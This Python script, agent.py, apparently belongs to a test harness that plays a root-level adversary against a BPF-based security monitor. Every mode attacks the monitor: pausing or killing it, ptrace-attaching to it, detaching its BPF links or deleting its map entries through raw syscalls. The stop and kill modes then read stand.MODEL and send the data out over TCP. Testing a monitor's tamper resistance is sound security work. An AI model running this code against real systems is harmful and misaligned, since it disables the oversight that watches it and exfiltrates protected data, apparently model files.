"""Somebody with root who turns on the monitor itself.

    agent.py stop|kill|freeze|detach|map|trace
"""

import ctypes
import os
import platform
import signal
import struct
import sys
import time

import send
import stand

MONITOR = int(os.environ.get("STAND_MONITOR", "0"))
BPF = {"x86_64": 321, "aarch64": 280}.get(platform.machine(), 0)
MAP_DELETE_ELEM, PROG_GET_FD_BY_ID, MAP_GET_FD_BY_ID = 3, 13, 14
LINK_GET_NEXT_ID, LINK_GET_FD_BY_ID, LINK_DETACH = 31, 30, 34
MAP_GET_NEXT_ID = 12


def bpf(command: int, packed: bytes) -> tuple[int, bytes]:
    area = ctypes.create_string_buffer(packed.ljust(128, b"\0"), 128)
    result = stand.libc.syscall(ctypes.c_long(BPF), command, area, 128)
    return result, area.raw


def ids(command: int) -> list[int]:
    found, last = [], 0
    while True:
        result, area = bpf(command, struct.pack("=I", last))
        if result < 0:
            return found
        last = struct.unpack_from("=I", area, 4)[0]
        found.append(last)


def own(kind: str) -> set[int]:
    """Ids of BPF objects that the monitor holds, from /proc."""
    held = set()
    for entry in os.listdir(f"/proc/{MONITOR}/fdinfo"):
        try:
            with open(f"/proc/{MONITOR}/fdinfo/{entry}") as file:
                for line in file:
                    if line.startswith(f"{kind}:"):
                        held.add(int(line.split()[1]))
        except OSError:
            continue
    return held


def steal() -> None:
    data = stand.read_all(stand.MODEL)
    stand.say("sent", bytes=send.tcp(data))


def stop() -> None:
    os.kill(MONITOR, signal.SIGSTOP)
    stand.say("stopped")
    steal()
    time.sleep(1)
    os.kill(MONITOR, signal.SIGCONT)


def kill() -> None:
    os.kill(MONITOR, signal.SIGKILL)
    stand.say("killed")
    # A new one has started by then.
    stand.listen()
    steal()


def trace() -> None:
    attached = stand.libc.ptrace(16, MONITOR, None, None)
    stand.check(attached, "attach")
    os.waitpid(MONITOR, 0)
    stand.libc.ptrace(17, MONITOR, None, None)
    stand.say("traced")


def detach() -> None:
    """Takes the monitor's programs off their hooks, one by one."""
    links = own("link_id")
    detached = refused = 0
    for link in ids(LINK_GET_NEXT_ID):
        if link not in links:
            continue
        fd, _ = bpf(LINK_GET_FD_BY_ID, struct.pack("=I", link))
        result, _ = bpf(LINK_DETACH, struct.pack("=I", fd))
        detached, refused = detached + (result == 0), refused + (result < 0)
        os.close(fd)
    stand.say("detached", detached=detached, refused=refused)
    if not links:
        sys.exit("the monitor holds no link that /proc shows")


def empty_maps() -> None:
    """Opens the monitor's maps by their ids, and deletes what it can."""
    maps = own("map_id")
    opened = 0
    for number in ids(MAP_GET_NEXT_ID):
        if number not in maps:
            continue
        fd, _ = bpf(MAP_GET_FD_BY_ID, struct.pack("=II", number, 0))
        if fd < 0:
            continue
        opened += 1
        key = ctypes.create_string_buffer(64)
        bpf(MAP_DELETE_ELEM, struct.pack("=IxxxxQ", fd, ctypes.addressof(key)))
        os.close(fd)
    stand.say("opened", maps=opened)
    if not opened:
        sys.exit("none of the monitor's maps could be opened")


WAYS = {"stop": stop, "kill": kill, "trace": trace, "detach": detach, "map": empty_maps}


def main() -> None:
    stand.wait_for_go()
    WAYS[sys.argv[1]]()


if __name__ == "__main__":
    main()
